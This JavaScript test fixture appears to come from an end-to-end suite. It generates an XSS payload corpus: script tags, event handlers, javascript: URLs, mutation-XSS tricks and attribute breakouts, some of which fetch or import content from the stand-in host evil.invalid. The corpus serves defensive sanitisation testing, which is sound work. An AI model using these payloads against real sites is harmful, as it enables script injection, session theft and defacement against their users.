// The XSS corpus of the end-to-end tests: markup, handlers, URLs and styles that would run or
// load something if the page ever parsed a text as HTML.

/** XSS payloads written for this test: each, if it ran, would open a dialog, set a flag, change
 * the title or fetch an address outside the page. */
export function payloads() {
  const run = ["alert(1)", "window.__xss=1", "document.title='pwned'", "fetch('http://evil.invalid/x')"];
  const out = [];
  for (const js of run) {
    out.push(
      `<script>${js}</script>`,
      `<img src=x onerror="${js}">`,
      `<svg onload="${js}"></svg>`,
      `<svg><script>${js}</script></svg>`,
      `<math><mtext><img src=x onerror="${js}"></mtext></math>`,
      `<body onload="${js}">`,
      `<iframe src="javascript:${js}"></iframe>`,
      `<a href="javascript:${js}">lien</a>`,
      `<div style="background:url(javascript:${js})">x</div>`,
      `<input autofocus onfocus="${js}">`,
      `<details open ontoggle="${js}">`,
      `<video><source onerror="${js}"></video>`,
      `<object data="javascript:${js}"></object>`,
      `<embed src="javascript:${js}">`,
      `<form action="javascript:${js}"><button>go</button></form>`,
      `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
      `<link rel=stylesheet href="http://evil.invalid/${encodeURIComponent(js)}.css">`,
      `<style>@import 'http://evil.invalid/a.css';</style>`,
      `&lt;script&gt;${js}&lt;/script&gt;`,
      `<scr<script>ipt>${js}</scr</script>ipt>`,
      `"><script>${js}</script>`,
      `'><img src=x onerror=${js}>`,
      `« <script>${js}</script> », a déclaré Jean <b onmouseover="${js}">Dupont</b>.`,
      `"<img src=x onerror=${js}>," said Mary <i>Smith</i>.`,
      `<template><script>${js}</script></template>`,
      `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    );
  }
  return out;
}
